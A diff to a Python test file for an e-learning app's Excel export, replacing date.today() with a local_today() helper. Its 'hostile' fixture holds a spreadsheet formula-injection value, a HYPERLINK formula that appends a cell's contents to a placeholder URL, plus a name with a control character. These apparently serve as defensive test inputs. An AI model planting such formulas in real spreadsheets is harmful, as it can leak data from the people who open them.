@@ -10,6 +10,7 @@ from datetime import date, timedelta
 import pytest
 from openpyxl import load_workbook
 
+from elearn.clock import local_today
 from elearn.content.pledge_template import DEFAULT_TEMPLATE
 from elearn.extensions import db
 from elearn.models import Position, Role, StudyPlan
@@ -25,7 +26,7 @@ from elearn.testing import csrf_token, job_id_from, login, run_queued_jobs
 
 PASSWORD = "mat-khau-dai"
 COURSE = "cd-2016-toan-khoa"
-YEAR = date.today().year
+YEAR = local_today().year
 FORMULA = '=HYPERLINK("http://x"&A1,"Xem")'
 CONTROL = "Trần\x0bVăn Tab"
 DATASETS = ("summary", "completions", "pledges", "missing-completion", "missing-pledge")
@@ -62,7 +63,7 @@ def hostile(app):
         create_user("dv", CONTROL, PASSWORD, cell)
         db.session.add(StudyPlan(year=YEAR, unit=province, title="Kế hoạch", audience="cadre",
                                  courses=json.dumps([COURSE]),
-                                 deadline=date.today() + timedelta(days=30),
+                                 deadline=local_today() + timedelta(days=30),
                                  superiors_first=False, template=DEFAULT_TEMPLATE))
         course = current_registry().course(COURSE)
         for username in ("ds", "bt", "dv"):
